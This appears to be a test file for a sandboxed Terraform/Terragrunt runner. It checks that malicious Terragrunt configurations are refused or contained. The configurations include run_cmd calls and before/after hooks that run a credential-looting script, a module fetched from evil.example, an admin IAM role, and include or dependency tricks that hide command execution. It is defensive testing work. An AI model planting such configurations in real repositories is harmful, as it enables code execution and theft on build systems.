/** Terragrunt files, which run programs and write files before Terraform starts. */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type HttpBackend, startHttpBackend } from '../../support/http-backend.ts';
import { requires } from '../../support/requirements.ts';
import { toolOnPath } from '../../support/terraform.ts';
import { nothingLeft } from '../../task-image/stage.ts';
import {
  type Attack,
  type Battlefield,
  battlefield,
  type GatedAttack,
  heldByTheSandbox,
  refusedByTheGate,
  withGateOpen,
} from './attack.ts';
import { looter, ran } from './looter.ts';

const main = 'terraform {\n  backend "http" {}\n}\nresource "terraform_data" "x" {}\n';
const opened = { state: 'succeeded', loot: ran } as const;
const withLooter =
  (terragrunt: string): Attack['files'] =>
  (prey, name) => ({ 'main.tf': main, 'loot.sh': looter(name, prey), 'terragrunt.hcl': terragrunt });
const hook = (kind: string) => `terraform {
  ${kind} "x" {
    commands     = ["plan"]
    execute      = ["bash", "loot.sh"]
    run_on_error = true
  }
}
`;

const gated = (address: string): readonly GatedAttack[] =>
  (
    [
      {
        name: 'run-cmd',
        rule: 'run-cmd',
        files: withLooter('locals {\n  x = run_cmd("--terragrunt-quiet", "bash", "loot.sh")\n}\n'),
        opened,
      },
      { name: 'before-hook', row: 'RCE-41', rule: 'hook', files: withLooter(hook('before_hook')), opened },
      { name: 'after-hook', rule: 'hook', files: withLooter(hook('after_hook')), opened },
      {
        name: 'generated-override',
        rule: 'generate',
        files: ({ foreignState }) => ({
          'main.tf': main,
          'terragrunt.hcl': `generate "x" {
  path      = "zzz_override.tf"
  if_exists = "overwrite"
  contents  = <<EOF
terraform {
  backend "local" {
    path = "${foreignState}"
  }
}
EOF
}
`,
        }),
        opened: { state: 'failed', code: 'E_INIT' },
      },
      {
        name: 'extra-arguments',
        rule: 'extra-arguments',
        files: {
          'main.tf': main,
          'terragrunt.hcl': `terraform {
  extra_arguments "x" {
    commands  = ["init"]
    arguments = ["-backend-config=address=${address}/other"]
  }
}
`,
        },
        // What the worker says comes last, and counts.
        opened: { state: 'succeeded' },
      },
    ] satisfies GatedAttack[]
  ).map(attack => ({ ...attack, stack: stack(address) }));

const refused = (address: string): readonly Attack[] =>
  (
    [
      {
        name: 'remote-state',
        files: {
          'main.tf': main,
          'terragrunt.hcl': `remote_state {\n  backend = "http"\n  config = {\n    address = "${address}/other"\n  }\n}\n`,
        },
      },
      { name: 'terraform-binary', files: withLooter('terraform_binary = "./loot.sh"\n') },
      { name: 'role', files: withLooter('iam_role = "arn:aws:iam::222222222222:role/admin"\n') },
      { name: 'source', files: withLooter('terraform {\n  source = "git::https://evil.example/m.git"\n}\n') },
      {
        name: 'included-from-outside',
        files: withLooter('include "x" {\n  path = "/etc/terragrunt.hcl"\n}\n'),
      },
      {
        name: 'run-cmd-in-a-parent',
        files: (prey: Parameters<typeof looter>[1], name: string) => ({
          'main.tf': main,
          'loot.sh': looter(name, prey),
          'terragrunt.hcl': 'include "root" {\n  path = find_in_parent_folders("root.hcl")\n}\n',
          '/root.hcl': 'inputs = {\n  x = run_cmd("bash", "loot.sh")\n}\n',
        }),
      },
      ...detours.map(([name, terragrunt, path, others]) => ({
        name: `run-cmd-${name}`,
        files: (prey: Parameters<typeof looter>[1], attack: string) => ({
          'main.tf': main,
          '/loot.sh': looter(attack, prey),
          'terragrunt.hcl': terragrunt,
          [path]: path.endsWith('.json')
            ? '{"locals": {"x": "${run_cmd(\\"bash\\", \\"../loot.sh\\")}"}}'
            : 'locals {\n  x = run_cmd("bash", "../../loot.sh")\n}\n',
          ...others,
        }),
      })),
    ] satisfies Attack[]
  ).map(attack => ({ ...attack, stack: stack(address) }));

const including = 'include "r" {\n  path   = "../root.hcl"\n  expose = true\n}\n';
const reading = (path: string): string => `locals {\n  e = read_terragrunt_config("${path}")\n}\n`;

/** What the stack says, the file that Terragrunt reads, and those that a reader may take for it. */
const detours: readonly (readonly [string, string, string, Readonly<Record<string, string>>])[] = [
  [
    'in-json',
    'include "r" {\n  path = find_in_parent_folders()\n}\n',
    '/prod/terragrunt.hcl.json',
    { '/terragrunt.hcl': '' },
  ],
  [
    'beside-a-directory',
    'include "r" {\n  path = "${dirname(find_in_parent_folders("d"))}/app.hcl"\n}\n',
    '/prod/app.hcl',
    { '/prod/d/keep': '', '/d': '', '/app.hcl': '' },
  ],
  [
    'of-the-parent',
    `${including}${reading('${get_parent_terragrunt_dir()}/e.hcl')}`,
    '/prod/e.hcl',
    { '/prod/root.hcl': '', 'e.hcl': '' },
  ],
  [
    'relative-to-the-parent',
    `${including}${reading('./${path_relative_to_include()}/e.hcl')}`,
    'x/e.hcl',
    { '/prod/root.hcl': '', 'e.hcl': '' },
  ],
  [
    'in-a-file-as-dependency',
    'dependency "n" {\n  config_path  = "../../network/eu/evil.hcl"\n  skip_outputs = true\n}\n',
    '/network/eu/evil.hcl',
    {},
  ],
  [
    'in-a-dependency-of-the-parent',
    including,
    '/network/eu/terragrunt.hcl',
    {
      '/prod/root.hcl': 'dependency "n" {\n  config_path  = "../network/eu"\n  skip_outputs = true\n}\n',
      '/prod/network/eu/terragrunt.hcl': '',
    },
  ],
  ['by-an-escape', reading('\\u0024{get_terragrunt_dir()}/e.hcl'), '${get_terragrunt_dir()}/e.hcl', { 'e.hcl': '' }],
  ['by-a-marker', reading('y ${~ "/e.hcl"}'), 'y/e.hcl', { 'y /e.hcl': '' }],
  ['by-a-slash', reading('${dirname("${get_terragrunt_dir()}/y/")}/e.hcl'), 'y/e.hcl', { 'e.hcl': '' }],
];

const copied: Attack['files'] = {
  'terragrunt.hcl':
    'include "r" {\n  path = find_in_parent_folders("root.hcl")\n}\nterraform {\n  source = "../../modules//m"\n}\n',
  '/modules/m/main.tf': 'module "sub" {\n  source = "./sub"\n}\n',
  '/modules/m/sub/main.tf': 'resource "terraform_data" "x" {}\n',
  '/modules/unused/main.tf': 'data "external" "x" {}\n',
};
const remoteState = (address: string, name: string): Attack['files'] => ({
  '/root.hcl': `remote_state {
  backend  = "http"
  generate = { path = "backend.tf", if_exists = "overwrite_terragrunt" }
  config   = { address = "${address}/${name}" }
}
`,
});

const provisioner = 'resource "terraform_data" "y" {\n  provisioner "local-exec" {\n    command = "id"\n  }\n}\n';

/** Stacks that Terragrunt copies together from two directories. */
const copies = (address: string) =>
  (
    [
      { name: 'copied', files: { ...copied, ...remoteState(address, 'copied') } },
      {
        name: 'copied-over',
        files: { ...copied, ...remoteState(address, 'copied-over'), 'sub/more.tf': provisioner },
      },
    ] satisfies Attack[]
  ).map(attack => ({ ...attack, stack: stack(address) }));

const stack = (address: string) => ({
  binary: 'terragrunt',
  backend: { type: 'http', config: { address: `${address}/{repo}` } },
  reads: ['network/**', 'prod/network/**'],
});

describe.skipIf(requires('sshd', 'terraform', 'providers') || !toolOnPath('terragrunt'))(
  'a Terragrunt file',
  { timeout: 60_000 },
  () => {
    let field: Battlefield;
    let http: HttpBackend;
    const named = <A extends Attack>(attacks: readonly A[], name: string): A => {
      const found = attacks.find(attack => attack.name === name);
      if (!found) throw new Error(name);
      return found;
    };
    beforeAll(async () => {
      http = await startHttpBackend();
      const all = gated(http.url);
      field = await battlefield([...all, ...all.map(withGateOpen), ...refused(http.url), ...copies(http.url)]);
    });
    afterAll(() => Promise.all([field?.stop(), http?.stop()]));

    test.each([...gated(''), ...refused('')])('with $name is refused before it is read by Terragrunt', ({ name }) =>
      refusedByTheGate(field, named([...gated(http.url), ...refused(http.url)], name)),
    );

    test.each(gated(''))('with $name gets nowhere where it is let in', async ({ name }) => {
      await heldByTheSandbox(field, named(gated(http.url), name));
      expect(http.requests.join('\n')).not.toContain('/other');
    });

    test('may take its module from a directory of the repository', async () => {
      const { run, log } = await field.raid(named(copies(http.url), 'copied'));
      expect({ state: run.state, log }).toMatchObject({ state: 'succeeded' });
    });

    test('brings nothing that was not read by laying the stack over its module', async () => {
      const { run, log } = await field.raid(named(copies(http.url), 'copied-over'));
      expect({ state: run.state, code: run.error?.code, log }).toMatchObject({ state: 'failed', code: 'E_GATE' });
      expect(log).toContain('more.tf');
    });

    test('leaves nothing', () => nothingLeft(field.server));
  },
);
